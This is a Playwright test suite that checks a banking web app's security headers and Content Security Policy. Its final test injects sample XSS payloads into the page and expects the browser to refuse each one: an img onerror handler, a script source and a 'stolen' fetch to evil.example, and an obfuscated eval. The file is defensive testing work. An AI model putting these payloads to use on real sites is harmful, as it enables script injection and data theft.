import type { Page } from "@playwright/test"
import { fullForm, someOf } from "../testing/full-form.ts"
import { deposit, expect, showTheme, test } from "./fixtures.ts"
import { memberPaths } from "./member-paths.ts"
import { fillTransfer, otherBankIban } from "./transfer-page.ts"
import { desktop, mobile } from "./widths.ts"

// The policy must allow the two location services and nothing else.
test.use({ networkedLocation: true })

const paths = memberPaths
const plainPages = ["/api/docs", "/docs/error-codes", "/nowhere"]

/**
 * Visits a page. The fixtures fail on violations that the browser reports, and on foreign hosts. They
 * do so in all tests, of which `checkScreen` shows each screen in both themes and at both widths; in
 * the full form this does too, one change at a time, because each change renders everything again.
 */
async function visit(page: Page, path: string): Promise<void> {
  await page.goto(path)
  await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible()
  if (!fullForm) return
  const other = page.viewportSize()?.width === desktop.width ? mobile : desktop
  if (path.includes("docs")) return page.setViewportSize(other)
  await showTheme(page, "dark")
  await page.setViewportSize(other)
  await showTheme(page, "light")
  // The next page begins at this width.
}

test("every page complies with the security headers, signed out (ASVS 3.4.3)", async ({ page }) => {
  // All of them lead a visitor to sign-in.
  for (const path of [...someOf(paths, 4, 0), "/login", ...plainPages]) await visit(page, path)
})

test("every page complies with the security headers, signed in (ASVS 3.4.3)", async ({
  page,
  context,
  member,
}) => {
  expect(member.username).not.toBe("")
  await deposit(context, "EUR", "500.00")
  for (const path of [...someOf(paths, 2, 0), ...plainPages]) await visit(page, path)
})

test("a dialog, a menu, a tooltip, a picker, and a toast open without an inline style or script", async ({
  page,
  context,
  member,
}) => {
  expect(member.username).not.toBe("")
  await deposit(context, "EUR", "500.00")
  await page.goto("/")
  await page.getByRole("button", { name: /^My Account/ }).click()
  await expect(page.getByRole("menuitem", { name: "Profile Settings" })).toBeVisible()
  await page.keyboard.press("Escape")
  await page.getByRole("button", { name: "About the balances" }).click()
  await expect(page.getByRole("tooltip")).toBeVisible()
  await page.keyboard.press("Escape")
  await page.getByRole("button", { name: "Currency Exchange" }).click()
  const dialog = page.getByRole("dialog", { name: "Currency Exchange" })
  await dialog.getByLabel("Amount").fill("10")
  await dialog.getByRole("button", { name: /^Exchange €/ }).click()
  await expect(page.getByRole("heading", { name: "Currency Exchange Successful" })).toBeVisible()
  await page.goto("/transfer")
  await page.getByRole("combobox", { name: "From account" }).click()
  await expect(page.getByRole("option").first()).toBeVisible()
  await page.keyboard.press("Escape")
  await fillTransfer(page, { amount: "1", iban: otherBankIban, name: "Jonas Keller" })
  await page.goto("/help-center")
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
})

/** What the browser must refuse, by the directive that it names. */
const refusals = [
  "connect-src",
  "frame-src",
  "img-src",
  "require-trusted-types-for",
  "style-src-attr",
  "style-src-elem",
  "trusted-types",
]

/** Tries what injected markup could do, and waits until the browser has reported each violation. */
async function attack(page: Page) {
  return page.evaluate(async (expected) => {
    const refused = new Set<string>()
    const allTold = new Promise<void>((resolve) => {
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        refused.add(effectiveDirective)
        if (expected.every((directive) => refused.has(directive))) resolve()
      })
    })
    const risen: string[] = []
    const attempt = (what: string, action: () => void) => {
      try {
        action()
      } catch (error) {
        risen.push(`${what}: ${(error as Error).name}`)
      }
    }
    const spot = document.body.appendChild(document.createElement("div"))
    attempt("innerHTML", () => {
      spot.innerHTML = "<img src=x onerror='globalThis.owned = 1'>"
    })
    attempt("policy", () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown }
      }
      trustedTypes.createPolicy("default", { createHTML: (text: string) => text })
    })
    attempt("script.src", () => {
      document.createElement("script").src = "https://evil.example/x.js"
    })
    const style = document.createElement("style")
    style.append("body { color: red }")
    const picture = document.createElement("img")
    picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    const frame = document.createElement("iframe")
    frame.src = "/login"
    spot.append(style, picture, frame)
    spot.setAttribute("style", "color: red")
    // Code that a test evaluates may use eval; a later task of the page may not.
    await new Promise<void>((done) => {
      setTimeout(() => {
        const evaluate = globalThis["ev".concat("al") as "eval"]
        attempt("eval", () => void evaluate("globalThis.owned = 1"))
        done()
      })
    })
    await fetch("https://evil.example/?stolen").catch(() => risen.push("fetch"))
    await allTold
    return { risen, owned: "owned" in globalThis }
  }, refusals)
}

test("actions of injected markup are refused (ASVS 3.4.3)", async ({ page, pageProblems }) => {
  await page.goto("/login")
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
  const { risen, owned } = await attack(page)
  expect(owned).toBe(false)
  expect(risen).toEqual([
    "innerHTML: TypeError",
    "policy: TypeError",
    "script.src: TypeError",
    "eval: EvalError",
    "fetch",
  ])
  // The test requested them.
  pageProblems.length = 0
})
